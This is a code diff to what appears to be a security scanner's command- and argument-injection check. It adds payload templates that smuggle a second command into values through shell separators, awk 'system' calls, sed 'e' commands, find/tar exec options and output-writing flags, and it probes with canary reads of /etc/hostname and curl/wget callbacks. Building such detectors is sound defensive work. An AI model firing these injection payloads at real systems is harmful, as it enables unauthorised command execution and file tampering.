@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import os
 from collections.abc import Iterator
 
 from mcpweb.plugin import CheckResult
 
-from . import marks
+from . import marks, paths
 from .attack import Attack, Family, declared
 
 CHECK = "D01"
@@ -26,6 +27,9 @@ CONTEXTS = (  # as small as they can be: a filter may know one sign and forget t
     ("after a double quote", '{v}";{x};"'),
     ("after a single quote, rest commented out", "{v}';{x} #"),
     ("after a double quote, rest commented out", '{v}";{x} #'),
+    ("in a program that is given the value, after ;", '{v};system("{x}")'),
+    ("in a program that is given the value", 'BEGIN{system("{x}")}'),
+    ("in a script of sed", "{v};1e {x}"),
 )
 FURTHER = (
     ("after ; with the rest commented out", "{v};{x} #"),
@@ -44,6 +48,7 @@ FURTHER = (
     ("on a new line with carriage return", "{v}\r\n{x}\r\n"),
     ("in process substitution", "{v} <({x})"),
 )
+CALLED = ('{v};system("{x}")', 'BEGIN{system("{x}")}')
 BLIND = ("{v};{x};#", "{v}|{x}", "{v}';{x};'", '{v}";{x};"', "{v}$({x})", "{v}`{x}`", "{v}\n{x}\n")
 ASKING = (  # what images have that asks for a name
     "getent hosts {n}",
@@ -54,7 +59,8 @@ ASKING = (  # what images have that asks for a name
     "wget -T2 -qO- {n}",
     "curl -m2 {n}",
 )
-OPTIONS = ("-f{p}", "--files0-from={p}", "--file={p}", "@{p}", "--from-file={p}", "-d@{p}", "--config={p}")
+OPTIONS = ("{v} {p}", "-f{p}", "--files0-from={p}", "--file={p}", "@{p}", "--from-file={p}", "-d@{p}", "--config={p}")
+WRITING = ("-o/{p}", "{v} -o /{p}", "--output=/{p}", "-w/{p}", "-O /{p}")
 FIND = (". -exec {x} ;", "-exec {x} ;", "{v} -exec {x} ;", "--checkpoint=1 --checkpoint-action=exec='{x}'")
 
 
@@ -71,8 +77,11 @@ def first(attack: Attack) -> Iterator[CheckResult | None]:
             return
     if attack.point.kind == "number":
         return
-    for frame in BLIND:
+    for frame in (*BLIND, *CALLED):
         _blind(attack, frame, ask=False)
+    for frame in WRITING:
+        _into(attack, frame)
+    yield from _options(attack, OPTIONS[:2])
 
 
 def more(attack: Attack) -> Iterator[CheckResult | None]:
@@ -95,7 +104,7 @@ def more(attack: Attack) -> Iterator[CheckResult | None]:
         if hit is not None:
             yield hit
             return
-    yield from _options(attack)
+    yield from _options(attack, OPTIONS[2:])
 
 
 def _command(space: str) -> tuple[str, str]:
@@ -183,10 +192,38 @@ def _blind_again(attack: Attack, frame: str, ask: bool) -> CheckResult | None:
     )
 
 
-def _options(attack: Attack) -> Iterator[CheckResult | None]:
+def _into(attack: Attack, frame: str, again: bool = False) -> tuple[str, str]:
+    """Give an option by which programs write somewhere; return what was sent and the path."""
+    name = marks.token()
+    sent = frame.replace("{v}", attack.valid).replace("{p}", f"{paths.PLACES[0]}/{name}")
+    attack.send(sent)
+    if not again:
+        attack.hope(CHECK, name, "path", frame, lambda other: _into_again(other, frame))
+    return sent, name
+
+
+def _into_again(attack: Attack, frame: str) -> CheckResult | None:
+    sent, name = _into(attack, frame, again=True)
+    inside = marks.token()
+    path = paths.outside(attack, name, inside, attack.send(inside))
+    if os.path.basename(path) != name or any(inside in one for one in attack.stand.changed()):
+        return None  # what takes names of files is another matter
+    return attack.fail(
+        CHECK,
+        f"A value in {attack.point.pointer} is taken for an option of a program, which writes where it says.",
+        sent=sent,
+        severity="high",
+        next_step=FIX,
+        way="argument injection",
+        file=path,
+    )
+
+
+def _options(attack: Attack, options: tuple[str, ...]) -> Iterator[CheckResult | None]:
     """Give options that make programs read a file: the answer then holds what only that file holds."""
     canary = attack.canary
-    for frame in OPTIONS:
+    for option in options:
+        frame = option.replace("{v}", attack.valid)
         payload = frame.replace("{p}", "/etc/hostname")
         reply = attack.send(payload)
         found = marks.read(canary, reply.text)
